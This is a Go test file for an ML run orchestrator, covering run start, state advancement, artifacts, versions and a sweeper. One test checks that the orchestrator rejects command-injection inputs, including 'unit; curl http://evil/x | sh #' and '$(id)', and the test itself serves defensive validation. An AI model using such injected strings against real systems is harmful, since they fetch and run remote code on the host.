package orchestrator

import (
	"context"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"

	"mlrun-admin/internal/config"
	"mlrun-admin/internal/dispatch"
	"mlrun-admin/internal/ingest"
	"mlrun-admin/internal/shared/apperr"
	"mlrun-admin/internal/shared/keyspace"
	"mlrun-admin/internal/shared/model"
	"mlrun-admin/internal/shared/objstore"
	"mlrun-admin/internal/shared/storage/dbutil"
	"mlrun-admin/internal/shared/storage/repository"
)

type fixture struct {
	orch    *Orchestrator
	ledger  *repository.Store
	objects *objstore.MemStore
	fake    *dispatch.Fake
	metrics *Metrics
}

func newFixture(t *testing.T, workers dispatch.WorkerProvider) *fixture {
	t.Helper()
	ledger, err := repository.Open(string(dbutil.DriverSQLite), ":memory:")
	require.NoError(t, err)
	t.Cleanup(func() { ledger.Close() })

	objects := objstore.NewMemStore()
	objects.PutString("ada/p1/artifacts/versions/v1/base/train.csv", "x,y\n")
	fake := dispatch.NewFake()
	metrics := NewMetrics("test", prometheus.NewRegistry())
	if workers == nil {
		workers = dispatch.StaticWorkers{Default: "gpu-1"}
	}

	logger := zap.NewNop()
	ing := ingest.New(ledger, objects, nil, ingest.Options{MaxReadBytes: 1 << 20}, logger)
	orch := New(Deps{
		Ledger:     ledger,
		Objects:    objects,
		Dispatcher: dispatch.WithTimeout(fake, time.Second),
		Workers:    workers,
		Ingestor:   ing,
		Metrics:    metrics,
	}, Config{
		Bucket:        "mlrun-artifacts",
		RunnerCommand: config.DefaultRunnerCommand,
		PresignTTL:    15 * time.Minute,
	}, logger)

	return &fixture{orch: orch, ledger: ledger, objects: objects, fake: fake, metrics: metrics}
}

func (f *fixture) runCount(t *testing.T) int {
	t.Helper()
	runs, err := f.ledger.ListRuns(context.Background(), model.RunFilter{})
	require.NoError(t, err)
	return len(runs)
}

var scoped = model.ScopedCaller("ui")

func unitRequest() StartRequest {
	return StartRequest{Owner: "ada", Project: "p1", Version: "v1", Task: "unit"}
}

// ============================================================================
// Start
// ============================================================================

func TestStart_BlankVersionRejected(t *testing.T) {
	f := newFixture(t, nil)
	for _, caller := range []model.Caller{scoped, model.AuthorityCaller("retrain")} {
		_, err := f.orch.Start(context.Background(), caller, StartRequest{Owner: "ada", Project: "p1", Version: "  ", Task: "unit"})
		assert.Equal(t, apperr.KindVersionRequired, apperr.KindOf(err))
	}
	assert.Zero(t, f.fake.Starts())
	assert.Zero(t, f.runCount(t))
}

func TestStart_InvalidScope(t *testing.T) {
	f := newFixture(t, nil)
	tests := []StartRequest{
		{Owner: "", Project: "p1", Version: "v1", Task: "unit"},
		{Owner: "ada", Project: "", Version: "v1", Task: "unit"},
		{Owner: "ada", Project: "p1", Version: "v1", Task: ""},
	}
	for _, req := range tests {
		_, err := f.orch.Start(context.Background(), scoped, req)
		assert.Equal(t, apperr.KindInvalidScope, apperr.KindOf(err))
	}
	assert.Zero(t, f.fake.Starts())
	assert.Equal(t, 3.0, testutil.ToFloat64(f.metrics.StartErrors.WithLabelValues("invalid_scope")))
}

func TestStart_RejectsUnsafeSegments(t *testing.T) {
	f := newFixture(t, nil)
	authority := model.AuthorityCaller("retrainer")
	tests := []struct {
		name string
		req  StartRequest
	}{
		{"task with shell", StartRequest{Owner: "ada", Project: "p1", Version: "v1", Task: "unit; curl http://evil/x | sh #"}},
		{"task with subshell", StartRequest{Owner: "ada", Project: "p1", Version: "v1", Task: "$(id)"}},
		{"owner with space", StartRequest{Owner: "ada lovelace", Project: "p1", Version: "v1", Task: "unit"}},
		{"project with quote", StartRequest{Owner: "ada", Project: "p1'", Version: "v1", Task: "unit"}},
		{"version dot dot", StartRequest{Owner: "ada", Project: "p1", Version: "..", Task: "unit"}},
		{"version with backtick", StartRequest{Owner: "ada", Project: "p1", Version: "v1`id`", Task: "unit"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := f.orch.Start(context.Background(), authority, tt.req)
			assert.Equal(t, apperr.KindInvalidScope, apperr.KindOf(err))
		})
	}
	assert.Zero(t, f.fake.Starts())
	assert.Zero(t, f.runCount(t))

	run, err := f.orch.Start(context.Background(), authority, StartRequest{Owner: "ada", Project: "p1", Version: "v1.2_rc-1", Task: "unit_v2"})
	require.NoError(t, err)
	assert.Equal(t, "unit_v2", run.Task)
}

func TestStart_ScopedCallerNeedsExistingVersion(t *testing.T) {
	f := newFixture(t, nil)
	req := unitRequest()
	req.Version = "v2"

	_, err := f.orch.Start(context.Background(), scoped, req)
	assert.Equal(t, apperr.KindNotFound, apperr.KindOf(err))
	assert.Zero(t, f.fake.Starts())

	run, err := f.orch.Start(context.Background(), model.AuthorityCaller("retrain"), req)
	require.NoError(t, err)
	assert.Equal(t, "ada/p1/artifacts/versions/v2/runs/"+run.ID, run.ArtifactsPrefix)
}

func TestStart_NoWorker(t *testing.T) {
	f := newFixture(t, dispatch.StaticWorkers{})
	_, err := f.orch.Start(context.Background(), scoped, unitRequest())
	assert.Equal(t, apperr.KindDispatchUnavailable, apperr.KindOf(err))
	assert.Zero(t, f.runCount(t))
}

func TestStart_DispatchFailureWritesNothing(t *testing.T) {
	f := newFixture(t, nil)
	f.fake.StartErr = assert.AnError

	_, err := f.orch.Start(context.Background(), scoped, unitRequest())
	assert.Equal(t, apperr.KindDispatchUnavailable, apperr.KindOf(err))
	assert.ErrorIs(t, err, assert.AnError)
	assert.Zero(t, f.runCount(t))
}

func TestStart_PersistsRunningRun(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t, dispatch.StaticWorkers{Workers: map[string]string{"ada": "gpu-ada"}})

	run, err := f.orch.Start(ctx, scoped, unitRequest())
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(run.ID, "run-"))
	assert.Equal(t, model.RunStateRunning, run.State)
	assert.Equal(t, "gpu-ada", run.WorkerRef)
	assert.NotNil(t, run.StartedAt)
	assert.Nil(t, run.FinishedAt)

	spec, ok := f.fake.Command(run.CommandHandle)
	require.True(t, ok)
	assert.Contains(t, spec.Command, "--out_s3 s3://mlrun-artifacts/"+run.ArtifactsPrefix)
	assert.Contains(t, spec.Command, "--base_s3 s3://mlrun-artifacts/ada/p1/artifacts/versions/v1 ")
	assert.Contains(t, spec.Command, "--task unit")

	stored, err := f.ledger.GetRun(ctx, run.ID)
	require.NoError(t, err)
	assert.Equal(t, run.ArtifactsPrefix, stored.ArtifactsPrefix)
	assert.Equal(t, 1.0, testutil.ToFloat64(f.metrics.RunsStarted))
}

// ============================================================================
// Advance
// ============================================================================

func TestAdvance_PendingStaysRunning(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t, nil)
	run, err := f.orch.Start(ctx, scoped, unitRequest())
	require.NoError(t, err)

	got, err := f.orch.Advance(ctx, run.ID)
	require.NoError(t, err)
	assert.Equal(t, model.RunStateRunning, got.State)
	assert.True(t, got.IsRunning())
	assert.False(t, got.IsDone())
}

func TestAdvance_UnknownRun(t *testing.T) {
	f := newFixture(t, nil)
	_, err := f.orch.Advance(context.Background(), "run-missing")
	assert.Equal(t, apperr.KindNotFound, apperr.KindOf(err))
}

func TestAdvance_EndToEnd(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t, nil)
	run, err := f.orch.Start(ctx, scoped, unitRequest())
	require.NoError(t, err)

	f.objects.PutString(keyspace.ArtifactKey(run.ArtifactsPrefix, keyspace.StatusFile), `{"success":true}`)
	f.objects.PutString(keyspace.ArtifactKey(run.ArtifactsPrefix, keyspace.MetricsFile), `{"accuracy":0.92}`)
	f.fake.Complete(run.CommandHandle, dispatch.StatusSucceeded, "done", "")

	done, err := f.orch.Advance(ctx, run.ID)
	require.NoError(t, err)
	assert.Equal(t, model.RunStateSucceeded, done.State)
	assert.True(t, done.IsSuccess())
	require.NotNil(t, done.FinishedAt)

	metrics, err := f.ledger.ListMetrics(ctx, run.ID)
	require.NoError(t, err)
	require.Len(t, metrics, 1)
	assert.Equal(t, "accuracy", metrics[0].Name)
	assert.InDelta(t, 0.92, metrics[0].Value, 1e-9)

	// 已结束的 Run 不再访问远端
	polls := f.fake.Polls()
	again, err := f.orch.Advance(ctx, run.ID)
	require.NoError(t, err)
	assert.Equal(t, polls, f.fake.Polls())
	assert.Equal(t, done, again)
	assert.Equal(t, 1.0, testutil.ToFloat64(f.metrics.RunsFinished.WithLabelValues("succeeded")))
}

func TestAdvance_ConcurrentFinalizesOnce(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t, nil)
	run, err := f.orch.Start(ctx, scoped, unitRequest())
	require.NoError(t, err)
	f.objects.PutString(keyspace.ArtifactKey(run.ArtifactsPrefix, keyspace.MetricsFile), `{"accuracy":0.92,"success":true}`)
	f.fake.Complete(run.CommandHandle, dispatch.StatusSucceeded, "", "")

	const n = 8
	var wg sync.WaitGroup
	finished := make([]*time.Time, n)
	errs := make([]error, n)
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			got, err := f.orch.Advance(ctx, run.ID)
			errs[i] = err
			if err == nil {
				finished[i] = got.FinishedAt
			}
		}(i)
	}
	wg.Wait()

	for i := 0; i < n; i++ {
		require.NoError(t, errs[i])
		require.NotNil(t, finished[i])
		assert.True(t, finished[0].Equal(*finished[i]))
	}
	metrics, err := f.ledger.ListMetrics(ctx, run.ID)
	require.NoError(t, err)
	assert.Len(t, metrics, 1)
	assert.Equal(t, 1.0, testutil.ToFloat64(f.metrics.RunsFinished.WithLabelValues("succeeded")))
}

func TestAdvance_PollTimeoutLeavesRunning(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t, nil)
	f.orch.dispatcher = dispatch.WithTimeout(f.fake, 20*time.Millisecond)
	run, err := f.orch.Start(ctx, scoped, unitRequest())
	require.NoError(t, err)

	f.fake.Complete(run.CommandHandle, dispatch.StatusSucceeded, "", "")
	f.fake.PollDelay = 200 * time.Millisecond
	_, err = f.orch.Advance(ctx, run.ID)
	assert.Equal(t, apperr.KindTransportTimeout, apperr.KindOf(err))

	stored, err := f.ledger.GetRun(ctx, run.ID)
	require.NoError(t, err)
	assert.Equal(t, model.RunStateRunning, stored.State)
	assert.Equal(t, 1.0, testutil.ToFloat64(f.metrics.AdvanceErrors.WithLabelValues("transport_timeout")))
}

func TestAdvance_RemoteFailureWithoutArtifacts(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t, nil)
	run, err := f.orch.Start(ctx, scoped, unitRequest())
	require.NoError(t, err)
	f.fake.Complete(run.CommandHandle, dispatch.StatusFailed, "", "Traceback")

	done, err := f.orch.Advance(ctx, run.ID)
	require.NoError(t, err)
	assert.Equal(t, model.RunStateFailed, done.State)
	assert.NotNil(t, done.FinishedAt)
}

// ============================================================================
// 查询
// ============================================================================

func TestListArtifacts(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t, nil)
	run, err := f.orch.Start(ctx, scoped, unitRequest())
	require.NoError(t, err)

	views, err := f.orch.ListArtifacts(ctx, run.ID)
	require.NoError(t, err)
	assert.NotNil(t, views)
	assert.Empty(t, views)

	f.objects.PutString(keyspace.ArtifactKey(run.ArtifactsPrefix, keyspace.MetricsFile), `{}`)
	f.objects.PutString(keyspace.ArtifactKey(run.ArtifactsPrefix, "graphs/loss_curve.png"), "png")

	views, err = f.orch.ListArtifacts(ctx, run.ID)
	require.NoError(t, err)
	require.Len(t, views, 2)
	assert.Equal(t, "graphs/loss_curve.png", views[0].Name)
	assert.Equal(t, "image/png", views[0].ContentType)
	assert.Equal(t, "metrics.json", views[1].Name)
	assert.Equal(t, "application/json", views[1].ContentType)
	assert.Contains(t, views[1].URL, "expires=900")
}

func TestConsole(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t, nil)
	run, err := f.orch.Start(ctx, scoped, unitRequest())
	require.NoError(t, err)

	out, err := f.orch.Console(ctx, run.ID)
	require.NoError(t, err)
	assert.Equal(t, "[status] pending\n(no output yet)\n", out)

	f.fake.Complete(run.CommandHandle, dispatch.StatusFailed, "epoch 1\n", "oom\n")
	out, err = f.orch.Console(ctx, run.ID)
	require.NoError(t, err)
	assert.Equal(t, "[status] failed\n--- stdout ---\nepoch 1\n--- stderr ---\noom\n", out)
}

func TestListVersions(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t, nil)
	f.objects.PutString("ada/p1/artifacts/versions/v10/base/a", "")
	f.objects.PutString("ada/p1/artifacts/versions/v2/runs/run-x/logs.txt", "")
	f.objects.PutString("ada/p1/artifacts/versions/baseline/base/a", "")
	f.objects.PutString("ada/p2/artifacts/versions/v99/base/a", "")

	labels, err := f.orch.ListVersions(ctx, "ada", "p1")
	require.NoError(t, err)
	assert.Equal(t, []string{"v1", "v2", "v10", "baseline"}, labels)

	latest, err := f.orch.LatestVersion(ctx, "ada", "p1")
	require.NoError(t, err)
	assert.Equal(t, "v10", latest)

	_, err = f.orch.LatestVersion(ctx, "bob", "p1")
	assert.Equal(t, apperr.KindNotFound, apperr.KindOf(err))

	_, err = f.orch.ListVersions(ctx, "", "p1")
	assert.Equal(t, apperr.KindInvalidScope, apperr.KindOf(err))
}

func TestReingest(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t, nil)
	run, err := f.orch.Start(ctx, scoped, unitRequest())
	require.NoError(t, err)
	f.objects.PutString(keyspace.ArtifactKey(run.ArtifactsPrefix, keyspace.MetricsFile), `{"accuracy":0.5}`)
	f.fake.Complete(run.CommandHandle, dispatch.StatusSucceeded, "", "")
	_, err = f.orch.Advance(ctx, run.ID)
	require.NoError(t, err)

	f.objects.PutString(keyspace.ArtifactKey(run.ArtifactsPrefix, keyspace.MetricsFile), `{"accuracy":0.7,"f1":0.6}`)
	summary, err := f.orch.Reingest(ctx, run.ID)
	require.NoError(t, err)
	assert.Equal(t, 2, summary.MetricRows)
}

// ============================================================================
// Sweeper
// ============================================================================

func TestSweeper_SweepOnce(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t, nil)

	var runs []*model.Run
	for i := 0; i < 3; i++ {
		run, err := f.orch.Start(ctx, scoped, unitRequest())
		require.NoError(t, err)
		runs = append(runs, run)
	}
	f.fake.Complete(runs[0].CommandHandle, dispatch.StatusSucceeded, "", "")
	f.fake.Complete(runs[2].CommandHandle, dispatch.StatusFailed, "", "")

	s := NewSweeper(f.orch, time.Second, 2, 10, zap.NewNop())
	stats, err := s.SweepOnce(ctx)
	require.NoError(t, err)
	assert.Equal(t, SweepStats{Active: 3, Finished: 2}, stats)
	assert.Equal(t, 3.0, testutil.ToFloat64(f.metrics.RunsActive))

	stats, err = s.SweepOnce(ctx)
	require.NoError(t, err)
	assert.Equal(t, SweepStats{Active: 1}, stats)
}

func TestSweeper_RunStopsOnCancel(t *testing.T) {
	f := newFixture(t, nil)
	s := NewSweeper(f.orch, 10*time.Millisecond, 1, 10, zap.NewNop())

	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- s.Run(ctx) }()
	time.Sleep(30 * time.Millisecond)
	cancel()

	select {
	case err := <-done:
		assert.NoError(t, err)
	case <-time.After(time.Second):
		t.Fatal("sweeper did not stop")
	}
}

func TestResults(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t, nil)
	run, err := f.orch.Start(ctx, scoped, unitRequest())
	require.NoError(t, err)

	res, err := f.orch.Results(ctx, run.ID)
	require.NoError(t, err)
	assert.NotNil(t, res.Metrics)
	assert.Empty(t, res.Metrics)
	assert.Empty(t, res.TestCases)

	f.objects.PutString(keyspace.ArtifactKey(run.ArtifactsPrefix, keyspace.MetricsFile), `{"accuracy":0.5,"success":true}`)
	f.objects.PutString(keyspace.ArtifactKey(run.ArtifactsPrefix, keyspace.TestsFile),
		"name,category,severity,status,value,threshold\ntoxicity,safety,high,PASS,0.01,0.05\n")
	f.fake.Complete(run.CommandHandle, dispatch.StatusSucceeded, "", "")
	_, err = f.orch.Advance(ctx, run.ID)
	require.NoError(t, err)

	res, err = f.orch.Results(ctx, run.ID)
	require.NoError(t, err)
	assert.True(t, res.Run.IsSuccess())
	assert.Len(t, res.Metrics, 1)
	assert.Len(t, res.TestCases, 1)

	_, err = f.orch.Results(ctx, "run-missing")
	assert.True(t, apperr.IsNotFound(err))
}
